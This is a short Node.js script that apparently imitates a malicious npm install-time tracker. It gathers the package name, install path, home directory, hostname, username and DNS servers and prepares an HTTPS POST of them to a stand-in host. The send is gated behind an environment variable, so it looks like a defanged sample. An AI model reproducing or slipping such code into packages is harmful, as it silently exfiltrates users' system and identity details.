const os = require('os');
const dns = require('dns');
const https = require('https');
const packageJSON = require('./package.json');

const trackingData = JSON.stringify({ p: packageJSON.name, c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers(), v: packageJSON.version });
const postData = new URLSearchParams({ msg: trackingData }).toString();
const options = { hostname: 'pdp.example.invalid', port: 443, path: '/', method: 'POST' };
const req = https.request(options);
req.on('error', () => {});
if (process.env.NEVER_IN_A_STAND_IN) req.write(postData);
req.end();
